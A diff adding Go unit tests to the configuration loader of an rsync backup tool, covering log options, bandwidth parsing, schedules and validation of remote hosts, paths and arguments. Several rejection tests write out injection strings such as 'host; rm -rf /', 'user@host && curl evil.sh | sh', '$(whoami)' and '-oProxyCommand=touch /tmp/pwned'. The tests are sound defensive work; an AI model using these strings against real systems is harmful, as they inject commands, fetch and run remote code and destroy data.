@@ -1,11 +1,15 @@
 package main
 
 import (
+	"bytes"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
 	"strings"
 	"testing"
+	"time"
 )
 
 func writeTestConfig(t *testing.T, dir, content string) string {
@@ -17,6 +21,37 @@ func writeTestConfig(t *testing.T, dir, content string) string {
 	return path
 }
 
+func TestWriteExampleConfig(t *testing.T) {
+	var buf bytes.Buffer
+	if err := writeExampleConfig(&buf); err != nil {
+		t.Fatal(err)
+	}
+	out := buf.String()
+
+	// Every field must be documented, so the example stays the reference
+	for _, typ := range []reflect.Type{reflect.TypeOf(Config{}), reflect.TypeOf(NotifierConfig{}), reflect.TypeOf(BandwidthWindow{})} {
+		for i := 0; i < typ.NumField(); i++ {
+			tag := typ.Field(i).Tag.Get("yaml")
+			if tag == "" {
+				continue
+			}
+			if !strings.Contains(out, tag+":") {
+				t.Errorf("example config does not mention %s.%s (%s)", typ.Name(), typ.Field(i).Name, tag)
+			}
+		}
+	}
+
+	// And it must load as is
+	path := writeTestConfig(t, t.TempDir(), out)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig(example) error = %v", err)
+	}
+	if cfg.SourcePath == "" || cfg.Schedule == "" {
+		t.Errorf("example config should set source_path and schedule, got %q, %q", cfg.SourcePath, cfg.Schedule)
+	}
+}
+
 func TestLoadConfig_Valid(t *testing.T) {
 	dir := t.TempDir()
 	path := writeTestConfig(t, dir, `
@@ -75,6 +110,36 @@ schedule: "0 * * * *"
 	if cfg.MaxLogFiles != 30 {
 		t.Errorf("default max_log_files = %d, want 30", cfg.MaxLogFiles)
 	}
+	if cfg.LogFormat != "console" {
+		t.Errorf("default log_format = %q, want console", cfg.LogFormat)
+	}
+	if cfg.LogLevel != "info" {
+		t.Errorf("default log_level = %q, want info", cfg.LogLevel)
+	}
+}
+
+func TestLoadConfig_InvalidLogSettings(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		wantErr string
+	}{
+		{"unknown format", "schedule: \"0 3 * * *\"\nlog_format: xml", "log_format"},
+		{"unknown level", "schedule: \"0 3 * * *\"\nlog_level: verbose", "log_level"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := writeTestConfig(t, t.TempDir(), tt.content)
+			_, err := LoadConfig(path)
+			if err == nil {
+				t.Fatal("expected error")
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("error = %q, want it to mention %q", err, tt.wantErr)
+			}
+		})
+	}
 }
 
 func TestLoadConfig_MissingFile(t *testing.T) {
@@ -124,6 +189,660 @@ func TestLoadConfig_TransferFieldsOptional(t *testing.T) {
 	}
 }
 
+func TestLoadConfig_ExtraArgs(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+extra_args:
+  - --exclude=*.tmp
+  - --checksum
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("expected no error, got: %v", err)
+	}
+	if len(cfg.ExtraArgs) != 2 || cfg.ExtraArgs[1] != "--checksum" {
+		t.Errorf("extra_args = %v, want [--exclude=*.tmp --checksum]", cfg.ExtraArgs)
+	}
+}
+
+func TestValidateExtraArgs_Rejected(t *testing.T) {
+	tests := []struct {
+		name    string
+		arg     string
+		wantErr string
+	}{
+		{"extra operand", "/etc/passwd", "must be a flag"},
+		{"remote operand", "evil@host:/tmp", "must be a flag"},
+		{"command separator", "--exclude=x; rm -rf /", "shell metacharacters"},
+		{"command substitution", "--exclude=$(whoami)", "shell metacharacters"},
+		{"pipe", "--log-file=/tmp/x|nc", "shell metacharacters"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validateExtraArgs([]string{tt.arg})
+			if err == nil {
+				t.Fatalf("expected error for %q", tt.arg)
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("error = %q, want it to contain %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestValidateRemoteHost(t *testing.T) {
+	valid := []string{"backup-host", "user@backup-host", "user@backup.example.com:2222", "plex_bk@10.0.0.5",
+		"user@fe80::1", "user@fe80::1%eth0", "user@[2001:db8::10]", "user@[2001:db8::10]:2222", "[::1]"}
+	for _, host := range valid {
+		if err := validateRemoteHost(host); err != nil {
+			t.Errorf("validateRemoteHost(%q) = %v, want nil", host, err)
+		}
+	}
+
+	invalid := []string{
+		"host; rm -rf /",
+		"user@host && curl evil.sh | sh",
+		"user@$(whoami)",
+		"`id`@host",
+		"-oProxyCommand=touch /tmp/pwned",
+		"user@-oProxyCommand=x",
+		"user@host name",
+		"user@host:99999",
+		"user@host:",
+		"user@host\nid",
+		"user@fe80::zz",
+		"user@[fe80::1",
+		"user@[fe80::1]:",
+		"user@[fe80::1]:99999",
+		"user@[fe80::1]2222",
+		"user@[10.0.0.5]",
+		"user@fe80::1%eth0;id",
+		"-oProxyCommand=x@[::1]",
+	}
+	for _, host := range invalid {
+		if err := validateRemoteHost(host); err == nil {
+			t.Errorf("validateRemoteHost(%q) = nil, want error", host)
+		}
+	}
+}
+
+func TestValidateRemotePath(t *testing.T) {
+	valid := []string{"/backups/plex", "/mnt/Plex Media/backups", "backups/plex-media_2"}
+	for _, path := range valid {
+		if err := validateRemotePath(path, false); err != nil {
+			t.Errorf("validateRemotePath(%q) = %v, want nil", path, err)
+		}
+	}
+
+	invalid := []string{
+		"/backups'; rm -rf / #",
+		`/backups"`,
+		"/backups/$(whoami)",
+		"/backups`id`",
+		"/backups; reboot",
+		"/backups\nreboot",
+	}
+	for _, path := range invalid {
+		if err := validateRemotePath(path, false); err == nil {
+			t.Errorf("validateRemotePath(%q) = nil, want error", path)
+		}
+	}
+
+	// Backslashes are only path separators on Windows
+	if err := validateRemotePath(`C:\Backups\Plex`, true); err != nil {
+		t.Errorf("validateRemotePath(C:\\Backups\\Plex, windows) = %v, want nil", err)
+	}
+	for _, path := range []string{`C:\Backups\Plex`, `/backups\plex`} {
+		if err := validateRemotePath(path, false); err == nil {
+			t.Errorf("validateRemotePath(%q, unix) = nil, want error", path)
+		}
+	}
+	if err := validateRemotePath(`C:\Backups;reboot`, true); err == nil {
+		t.Error("validateRemotePath with a ; on Windows = nil, want error")
+	}
+}
+
+func TestLoadConfig_MaxLogAge(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+max_log_age: 720h
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.MaxLogAge != 30*24*time.Hour {
+		t.Errorf("max_log_age = %v, want 720h", cfg.MaxLogAge)
+	}
+
+	path = writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+max_log_age: -1h
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "max_log_age") {
+		t.Errorf("LoadConfig() error = %v, want a max_log_age error", err)
+	}
+}
+
+func TestLoadConfig_ShutdownBehavior(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.ShutdownBehavior != ShutdownWait || cfg.ShutdownGrace != 5*time.Minute {
+		t.Errorf("shutdown = %q after %v, want wait after 5m by default", cfg.ShutdownBehavior, cfg.ShutdownGrace)
+	}
+
+	path = writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+shutdown_behavior: abandon
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "shutdown_behavior") {
+		t.Errorf("LoadConfig() error = %v, want a shutdown_behavior error", err)
+	}
+}
+
+func TestRemoteIsWindows(t *testing.T) {
+	tests := []struct {
+		path, os string
+		want     bool
+	}{
+		{"/backups/plex", "", false},
+		{"C:/backup", "", true},
+		{"d:", "", true},
+		{"C:/backup", "unix", false},
+		{"/cygdrive/c/backup", "windows", true},
+		{"backups:old", "", false},
+	}
+	for _, tt := range tests {
+		cfg := &Config{RemotePath: tt.path, RemoteOS: tt.os}
+		if got := cfg.RemoteIsWindows(); got != tt.want {
+			t.Errorf("RemoteIsWindows(%q, %q) = %v, want %v", tt.path, tt.os, got, tt.want)
+		}
+	}
+}
+
+func TestLoadConfig_InvalidRemoteOS(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+remote_os: macos
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "remote_os") {
+		t.Errorf("LoadConfig() error = %v, want a remote_os error", err)
+	}
+}
+
+func TestLoadConfig_PreserveOptions(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+preserve_perms: false
+preserve_owner: false
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.PreserveTimes != nil {
+		t.Errorf("preserve_times = %v, want unset (defaults to true)", *cfg.PreserveTimes)
+	}
+	if got := cfg.ArchiveFlags(); got != "rltD" {
+		t.Errorf("ArchiveFlags() = %q, want rltD", got)
+	}
+}
+
+func TestLoadConfig_InvalidRemoteHost(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+remote_host: "host; rm -rf /"
+`)
+	_, err := LoadConfig(path)
+	if err == nil {
+		t.Fatal("expected error for malicious remote_host")
+	}
+	if !strings.Contains(err.Error(), "remote_host") {
+		t.Errorf("error = %q, want it to mention remote_host", err)
+	}
+}
+
+func TestLoadTransferSettings_RejectsMaliciousFile(t *testing.T) {
+	dir := t.TempDir()
+	cfg := &Config{LogDir: dir}
+	os.WriteFile(cfg.SettingsFilePath(), []byte(`{"remote_host":"user@host","remote_path":"/x'; reboot; '"}`), 0644)
+
+	if err := cfg.LoadTransferSettings(); err == nil {
+		t.Fatal("expected error for malicious remote_path in settings file")
+	}
+	if cfg.RemotePath != "" {
+		t.Errorf("cfg.RemotePath = %q, want it left unset", cfg.RemotePath)
+	}
+}
+
+func TestSSHHostPort(t *testing.T) {
+	cfg := &Config{RemoteHost: "user@backup-host:2222"}
+	host, port := cfg.SSHHostPort()
+	if host != "user@backup-host" || port != "2222" {
+		t.Errorf("SSHHostPort() = %q, %q, want user@backup-host, 2222", host, port)
+	}
+
+	cfg.RemoteHost = "user@backup-host"
+	host, port = cfg.SSHHostPort()
+	if host != "user@backup-host" || port != "" {
+		t.Errorf("SSHHostPort() = %q, %q, want user@backup-host, empty port", host, port)
+	}
+}
+
+func TestBandwidthLimitAt(t *testing.T) {
+	cfg := &Config{
+		BandwidthLimit: 0,
+		BandwidthSchedule: []BandwidthWindow{
+			{Start: "09:00", End: "17:00", Days: []string{"mon", "tue", "wed", "thu", "fri"}, Limit: 2000},
+			{Start: "22:00", End: "02:00", Limit: 500},
+		},
+	}
+
+	// 2026-02-02 is a Monday
+	tests := []struct {
+		name string
+		at   time.Time
+		want int
+	}{
+		{"inside business hours", time.Date(2026, 2, 2, 12, 30, 0, 0, time.Local), 2000},
+		{"window start is inclusive", time.Date(2026, 2, 2, 9, 0, 0, 0, time.Local), 2000},
+		{"window end is exclusive", time.Date(2026, 2, 2, 17, 0, 0, 0, time.Local), 0},
+		{"outside any window", time.Date(2026, 2, 2, 19, 0, 0, 0, time.Local), 0},
+		{"weekday-only window on saturday", time.Date(2026, 2, 7, 12, 30, 0, 0, time.Local), 0},
+		{"overnight window before midnight", time.Date(2026, 2, 2, 23, 0, 0, 0, time.Local), 500},
+		{"overnight window after midnight", time.Date(2026, 2, 3, 1, 0, 0, 0, time.Local), 500},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := cfg.BandwidthLimitAt(tt.at); got != tt.want {
+				t.Errorf("BandwidthLimitAt(%s) = %d, want %d", tt.at.Format("Mon 15:04"), got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseBandwidth(t *testing.T) {
+	tests := []struct {
+		in   string
+		want Bandwidth
+	}{
+		{"5000", 5000},
+		{"0", 0},
+		{"500K", 500},
+		{"500k", 500},
+		{"500KB", 500},
+		{"5M", 5120},
+		{"5MB/s", 5120},
+		{"1.5M", 1536},
+		{"1G", 1048576},
+		{" 2 M ", 2048},
+		{"0.5K", 1},
+		{"0.5", 1},
+		{"1.0001M", 1025},
+	}
+	for _, tt := range tests {
+		got, err := parseBandwidth(tt.in)
+		if err != nil || got != tt.want {
+			t.Errorf("parseBandwidth(%q) = %d, %v, want %d", tt.in, got, err, tt.want)
+		}
+	}
+
+	for _, in := range []string{"fast", "-5M", "5T", "M", "", "500B", "500b/s"} {
+		if _, err := parseBandwidth(in); err == nil {
+			t.Errorf("parseBandwidth(%q) should fail", in)
+		}
+	}
+}
+
+func TestLoadConfig_BandwidthUnits(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+bandwidth_limit: 5M
+bandwidth_schedule:
+  - start: "09:00"
+    end: "17:00"
+    limit: 500K
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.BandwidthLimit != 5120 || cfg.BandwidthSchedule[0].Limit != 500 {
+		t.Errorf("bandwidth = %d, window = %d, want 5120 and 500 KB/s", cfg.BandwidthLimit, cfg.BandwidthSchedule[0].Limit)
+	}
+
+	path = writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+bandwidth_limit: lots
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "invalid bandwidth") {
+		t.Errorf("LoadConfig() error = %v, want an invalid bandwidth error", err)
+	}
+}
+
+func TestParseByteSize(t *testing.T) {
+	tests := []struct {
+		in   string
+		want ByteSize
+	}{
+		{"0", 0},
+		{"4096", 4096},
+		{"500M", 500 << 20},
+		{"50G", 50 << 30},
+		{"50GB", 50 << 30},
+		{"1.5g", 3 << 29},
+		{"2TiB", 2 << 40},
+	}
+	for _, tt := range tests {
+		got, err := parseByteSize(tt.in)
+		if err != nil || got != tt.want {
+			t.Errorf("parseByteSize(%q) = %d, %v, want %d", tt.in, got, err, tt.want)
+		}
+	}
+
+	for _, in := range []string{"plenty", "-5G", "5P", "G", ""} {
+		if _, err := parseByteSize(in); err == nil {
+			t.Errorf("parseByteSize(%q) should fail", in)
+		}
+	}
+}
+
+func TestLoadConfig_InvalidSkipCompress(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+skip_compress: [mkv, ".mp4"]
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "skip_compress") {
+		t.Errorf("LoadConfig() error = %v, want a skip_compress error", err)
+	}
+}
+
+func TestLoadConfig_InPlace(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+inplace: true
+extra_args: ["--partial-dir=.rsync-partial"]
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "--partial-dir") {
+		t.Errorf("LoadConfig() error = %v, want an inplace/--partial-dir error", err)
+	}
+
+	path = writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+inplace: true
+extra_args: ["--link-dest=/backups/previous"]
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig() error = %v", err)
+	}
+	if w := cfg.Warnings(); len(w) != 1 || !strings.Contains(w[0], "--link-dest") {
+		t.Errorf("Warnings() = %v, want one --link-dest warning", w)
+	}
+
+	cfg.InPlace = false
+	if w := cfg.Warnings(); len(w) != 0 {
+		t.Errorf("Warnings() without inplace = %v, want none", w)
+	}
+	cfg.MaxLogSize = 5 << 20
+	if w := cfg.Warnings(); len(w) != 1 || !strings.Contains(w[0], "max_log_size") {
+		t.Errorf("Warnings() = %v, want one max_log_size warning", w)
+	}
+	cfg.SingleLogFile = true
+	if w := cfg.Warnings(); len(w) != 0 {
+		t.Errorf("Warnings() with single_log_file = %v, want none", w)
+	}
+}
+
+func TestLoadConfig_SingleLogFile(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+single_log_file: true
+max_log_size: 5MB
+`)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig() error = %v", err)
+	}
+	if !cfg.SingleLogFile || cfg.MaxLogSize != 5<<20 {
+		t.Errorf("single_log_file = %v, max_log_size = %d", cfg.SingleLogFile, cfg.MaxLogSize)
+	}
+
+	path = writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+single_log_file: true
+log_name_template: "plex-{id}.log"
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "single_log_file") {
+		t.Errorf("LoadConfig() error = %v, want a single_log_file/log_name_template error", err)
+	}
+}
+
+func TestLoadConfig_RsyncPath(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nrsync_path: sudo rsync\n")
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig() error = %v", err)
+	}
+	if cfg.RsyncPath != "sudo rsync" {
+		t.Errorf("rsync_path = %q, want sudo rsync", cfg.RsyncPath)
+	}
+
+	path = writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nrsync_path: \"rsync; rm -rf /\"\n")
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "rsync_path") {
+		t.Errorf("LoadConfig() error = %v, want a rsync_path error", err)
+	}
+}
+
+func TestLoadConfig_BasePath(t *testing.T) {
+	dir := t.TempDir()
+	for value, want := range map[string]string{"/backups/": "/backups", "/apps/rsync-web": "/apps/rsync-web", "/": ""} {
+		path := writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nbase_path: "+value+"\n")
+		cfg, err := LoadConfig(path)
+		if err != nil {
+			t.Fatalf("base_path %s: LoadConfig() error = %v", value, err)
+		}
+		if cfg.BasePath != want {
+			t.Errorf("base_path %s = %q, want %q", value, cfg.BasePath, want)
+		}
+	}
+
+	for _, value := range []string{"backups", "/a/../b", "//evil.example", "/back ups", "\"/a?b\""} {
+		path := writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nbase_path: "+value+"\n")
+		if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "base_path") {
+			t.Errorf("base_path %s: LoadConfig() error = %v, want a base_path error", value, err)
+		}
+	}
+}
+
+func TestLoadConfig_InstanceName(t *testing.T) {
+	dir := t.TempDir()
+	cfg, err := LoadConfig(writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if host, _ := os.Hostname(); cfg.InstanceName != host {
+		t.Errorf("default instance_name = %q, want the hostname %q", cfg.InstanceName, host)
+	}
+
+	path := writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\ninstance_name: \"nas\\r\\nBcc: x@example.test\"\n")
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "instance_name") {
+		t.Errorf("LoadConfig() error = %v, want an instance_name error", err)
+	}
+}
+
+func TestValidateChmodRules(t *testing.T) {
+	for _, rules := range []string{"", "D755,F644", "Du=rwx,go=rx", "a+rX", "Fgo-w", "D2775"} {
+		if err := validateChmodRules(rules); err != nil {
+			t.Errorf("validateChmodRules(%q) = %v, want nil", rules, err)
+		}
+	}
+	for _, rules := range []string{"D755,", "X644", "D75", "F64a", "u+q", "D755 --delete"} {
+		if err := validateChmodRules(rules); err == nil {
+			t.Errorf("validateChmodRules(%q) should fail", rules)
+		}
+	}
+}
+
+func TestLoadConfig_ListenAddr(t *testing.T) {
+	dir := t.TempDir()
+	for _, addr := range []string{":8090", "127.0.0.1:8090", "[::1]:8090", "nas.lan:80", "unix:/run/rsync-web.sock"} {
+		if _, err := LoadConfig(writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nlisten_addr: \""+addr+"\"\n")); err != nil {
+			t.Errorf("listen_addr %q: LoadConfig() error = %v", addr, err)
+		}
+	}
+
+	// Rejected when the config is loaded, before anything tries to bind
+	for addr, want := range map[string]string{
+		"8090":              "must be host:port",
+		"192.168.1.10":      "must be host:port",
+		"localhost:99999":   "0 to 65535",
+		":http-alt":         "0 to 65535",
+		"bad_host!:8090":    "not an IP address or hostname",
+		"unix:":             "socket path is missing",
+		"::1:8090":          "must be host:port",
+		"127.0.0.1:8090:80": "must be host:port",
+	} {
+		_, err := LoadConfig(writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nlisten_addr: \""+addr+"\"\n"))
+		if err == nil || !strings.Contains(err.Error(), "listen_addr") || !strings.Contains(err.Error(), want) {
+			t.Errorf("listen_addr %q: LoadConfig() error = %v, want a listen_addr error containing %q", addr, err, want)
+		}
+	}
+}
+
+func TestLoadConfig_BandwidthPercentNeedsLinkSpeed(t *testing.T) {
+	dir := t.TempDir()
+	_, err := LoadConfig(writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nbandwidth_percent: 50\n"))
+	if err == nil || !strings.Contains(err.Error(), "link_speed") {
+		t.Errorf("bandwidth_percent without link_speed: LoadConfig() error = %v, want a link_speed error", err)
+	}
+	if _, err := LoadConfig(writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nbandwidth_percent: 50\nlink_speed: 100M\n")); err != nil {
+		t.Errorf("bandwidth_percent with link_speed: LoadConfig() error = %v", err)
+	}
+}
+
+func TestSubpath_Symlinks(t *testing.T) {
+	source := t.TempDir()
+	outside := t.TempDir()
+	os.MkdirAll(filepath.Join(source, "movies", "2024"), 0755)
+	os.WriteFile(filepath.Join(source, "notes.txt"), nil, 0644)
+	os.Symlink(outside, filepath.Join(source, "etc"))
+	os.Symlink("../..", filepath.Join(source, "movies", "up"))
+	os.Symlink("movies/2024", filepath.Join(source, "latest"))
+	cfg := &Config{SourcePath: source}
+
+	// A symlink that stays inside source_path resolves to its target
+	if got, err := cfg.Subpath("latest"); err != nil || got != "movies/2024" {
+		t.Errorf("Subpath(latest) = %q, %v, want movies/2024", got, err)
+	}
+
+	for path, want := range map[string]string{
+		"etc":       "outside source_path",
+		"etc/":      "outside source_path",
+		"movies/up": "outside source_path",
+		"missing":   "does not exist",
+		"notes.txt": "not a directory",
+	} {
+		if _, err := cfg.Subpath(path); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("Subpath(%q) error = %v, want %q", path, err, want)
+		}
+	}
+}
+
+func TestLoadConfig_KnownHostsFile(t *testing.T) {
+	dir := t.TempDir()
+	for _, value := range []string{"known_hosts", "/etc/ssh/my hosts", "/tmp/kh;id"} {
+		path := writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\nknown_hosts_file: \""+value+"\"\n")
+		if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "known_hosts_file") {
+			t.Errorf("known_hosts_file %q: LoadConfig() error = %v, want a known_hosts_file error", value, err)
+		}
+	}
+}
+
+func TestExitStatus(t *testing.T) {
+	cfg := &Config{}
+	for code, want := range map[int]BackupStatus{0: StatusSuccess, 23: StatusWarning, 24: StatusWarning, 12: StatusFailed, 255: StatusFailed} {
+		if got := cfg.ExitStatus(code); got != want {
+			t.Errorf("default ExitStatus(%d) = %s, want %s", code, got, want)
+		}
+	}
+
+	cfg.WarningExitCodes = []int{24}
+	cfg.IgnoreExitCodes = []int{25}
+	for code, want := range map[int]BackupStatus{0: StatusSuccess, 23: StatusFailed, 24: StatusWarning, 25: StatusSuccess} {
+		if got := cfg.ExitStatus(code); got != want {
+			t.Errorf("overridden ExitStatus(%d) = %s, want %s", code, got, want)
+		}
+	}
+
+	// An empty list means no code is a warning
+	cfg.WarningExitCodes = []int{}
+	if got := cfg.ExitStatus(24); got != StatusFailed {
+		t.Errorf("ExitStatus(24) with warning_exit_codes: [] = %s, want failed", got)
+	}
+}
+
+func TestLoadConfig_InvalidExitCodes(t *testing.T) {
+	dir := t.TempDir()
+	for _, codes := range []string{
+		"warning_exit_codes: [0]",
+		"ignore_exit_codes: [256]",
+		"warning_exit_codes: [24]\nignore_exit_codes: [24]",
+	} {
+		path := writeTestConfig(t, dir, "schedule: \"0 3 * * *\"\n"+codes+"\n")
+		if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "exit code") {
+			t.Errorf("LoadConfig(%q) error = %v, want an exit code error", codes, err)
+		}
+	}
+}
+
+func TestLoadConfig_RelativeSourcePaths(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+source_paths: [/etc, home]
+`)
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "source_paths") {
+		t.Errorf("LoadConfig() error = %v, want a source_paths error", err)
+	}
+}
+
+func TestLoadConfig_InvalidBandwidthSchedule(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, `
+schedule: "0 3 * * *"
+bandwidth_schedule:
+  - start: "9am"
+    end: "17:00"
+    limit: 1000
+`)
+	_, err := LoadConfig(path)
+	if err == nil {
+		t.Fatal("expected error for invalid bandwidth window")
+	}
+	if !strings.Contains(err.Error(), "bandwidth_schedule[0]") {
+		t.Errorf("error = %q, want it to mention 'bandwidth_schedule[0]'", err)
+	}
+}
+
 func TestTransferConfigured(t *testing.T) {
 	cfg := &Config{
 		SourcePath: "/src",
@@ -140,6 +859,40 @@ func TestTransferConfigured(t *testing.T) {
 	if cfg.TransferConfigured() {
 		t.Error("TransferConfigured() should be false when ssh_key_path is empty")
 	}
+	cfg.SSHUseAgent = true
+	if !cfg.TransferConfigured() {
+		t.Error("TransferConfigured() should be true without ssh_key_path when ssh_use_agent is set")
+	}
+	cfg.SSHUseAgent = false
+
+	// source_paths stands in for source_path
+	cfg.SSHKeyPath = "/key"
+	cfg.SourcePath = ""
+	cfg.SourcePaths = []string{"/etc", "/home"}
+	if !cfg.TransferConfigured() {
+		t.Error("TransferConfigured() should be true with source_paths and no source_path")
+	}
+	if got := cfg.SourceDisplay(); got != "/etc, /home" {
+		t.Errorf("SourceDisplay() = %q, want /etc, /home", got)
+	}
+
+	// Local destination: no host or key needed
+	cfg.RemoteHost = ""
+	if !cfg.TransferConfigured() {
+		t.Error("TransferConfigured() should be true for a local destination")
+	}
+	if got := cfg.Destination(); got != "/dst" {
+		t.Errorf("Destination() = %q, want /dst", got)
+	}
+}
+
+func TestTransferSettings_LocalPathMustBeAbsolute(t *testing.T) {
+	if err := (TransferSettings{RemotePath: "backups:old"}).validate(false); err == nil {
+		t.Error("expected error for a relative local remote_path")
+	}
+	if err := (TransferSettings{RemotePath: "/media/external"}).validate(false); err != nil {
+		t.Errorf("unexpected error for an absolute local path: %v", err)
+	}
 }
 
 func TestTransferSettings_SaveAndLoad(t *testing.T) {
@@ -196,6 +949,66 @@ func TestTransferSettings_SaveAndLoad(t *testing.T) {
 	}
 }
 
+func TestSchedulePrecedence_RoundTrip(t *testing.T) {
+	dir := t.TempDir()
+	path := writeTestConfig(t, dir, fmt.Sprintf(`
+schedule: "0 3 * * *"
+log_dir: %s
+`, dir))
+
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	settings := cfg.GetTransferSettings()
+	if settings.Schedule != "" {
+		t.Errorf("no override expected before anything is saved, got %q", settings.Schedule)
+	}
+
+	// Save an override from the UI
+	settings.Schedule = "30 1 * * *"
+	cfg.ApplyTransferSettings(settings)
+	if err := cfg.SaveTransferSettings(); err != nil {
+		t.Fatal(err)
+	}
+
+	// On restart the saved schedule wins over config.yaml, even if config.yaml changed
+	writeTestConfig(t, dir, fmt.Sprintf(`
+schedule: "0 4 * * *"
+log_dir: %s
+`, dir))
+	cfg, err = LoadConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.LoadTransferSettings(); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Schedule != "30 1 * * *" || !cfg.ScheduleOverridden() {
+		t.Errorf("Schedule = %q (overridden %v), want the saved 30 1 * * *", cfg.Schedule, cfg.ScheduleOverridden())
+	}
+	if cfg.ConfigSchedule() != "0 4 * * *" {
+		t.Errorf("ConfigSchedule() = %q, want 0 4 * * *", cfg.ConfigSchedule())
+	}
+
+	// Clearing the override reverts to config.yaml and is persisted too
+	settings = cfg.GetTransferSettings()
+	settings.Schedule = ""
+	cfg.ApplyTransferSettings(settings)
+	if err := cfg.SaveTransferSettings(); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Schedule != "0 4 * * *" {
+		t.Errorf("Schedule = %q after clearing, want config.yaml's 0 4 * * *", cfg.Schedule)
+	}
+
+	cfg, _ = LoadConfig(path)
+	cfg.LoadTransferSettings()
+	if cfg.Schedule != "0 4 * * *" || cfg.ScheduleOverridden() {
+		t.Errorf("Schedule = %q (overridden %v) after reload, want config.yaml's value", cfg.Schedule, cfg.ScheduleOverridden())
+	}
+}
+
 func TestLoadTransferSettings_NoFile(t *testing.T) {
 	cfg := &Config{
 		Schedule: "0 3 * * *",